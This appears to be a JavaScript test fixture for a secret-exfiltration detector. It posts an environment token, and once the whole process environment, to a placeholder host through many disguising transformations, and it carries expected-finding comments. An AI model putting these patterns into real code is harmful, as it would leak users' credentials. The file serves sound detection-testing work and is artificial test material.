const fs = require('fs');
const base = 'https://example.org/';
const token = process.env.SERVICE_TOKEN;

fetch(base, { method: 'POST', body: 'k='.concat(token) });
fetch(base, { method: 'POST', body: 'KEY'.replace('KEY', token) });
fetch(base, { method: 'POST', body: token.split('').reverse().join('') });
fetch(base, { method: 'POST', body: token.padStart(100) });
fetch(base, { method: 'POST', body: token.slice(0, 10) + token.slice(10) });
fetch(base, { method: 'POST', body: [].concat(token).join() });
fetch(base, { method: 'POST', body: JSON.stringify(JSON.parse(JSON.stringify(process.env))) });
const bytes = new Uint8Array(100);
bytes.set(Buffer.from(token));
fetch(base, { method: 'POST', body: bytes });
const copy = Buffer.alloc(100);
Buffer.from(token).copy(copy);
fetch(base, { method: 'POST', body: copy });
const into = new Uint8Array(100);
new TextEncoder().encodeInto(token, into);
fetch(base, { method: 'POST', body: into });
fetch(base, { method: 'POST', body: Buffer.alloc(10, token) });
fs.writeFileSync('a.txt', token);
fs.copyFileSync('a.txt', 'b.txt');
fetch(base, { method: 'POST', body: fs.readFileSync('b.txt') });
fs.renameSync('b.txt', 'c.txt');
fetch(base, { method: 'POST', body: fs.createReadStream('c.txt') });
const { Console } = require('console');
const own = new Console(fs.createWriteStream('own.log'));
own.log(token);
fetch(base, { method: 'POST', body: fs.readFileSync('own.log') });

// nothing secret is sent
const crypto = require('crypto');
fetch(base, { method: 'POST', body: crypto.createHash('sha256').update('a=1').update(token).digest('hex') });
const hash = crypto.createHash('sha256');
hash.update(token);
fetch(base, { method: 'POST', body: hash.digest('hex') });
fetch(base, { method: 'POST', body: JSON.stringify({ known: token.startsWith('sk-'), characters: token.length }) });
fetch(base, { method: 'POST', body: process.env.LANG.split('.')[0].concat('x') });
fs.renameSync('report.tmp', 'report.json');
fetch(base, { method: 'POST', body: fs.readFileSync('report.json') });
// expect 5 any.secret-sent
// expect 6 any.secret-sent
// expect 7 any.secret-sent
// expect 8 any.secret-sent
// expect 9 any.secret-sent
// expect 10 any.secret-sent
// expect 11 any.secret-sent
// expect 14 any.secret-sent
// expect 17 any.secret-sent
// expect 20 any.secret-sent
// expect 21 any.secret-sent
// expect 24 any.secret-sent
// expect 26 any.secret-sent
// expect 30 any.secret-sent
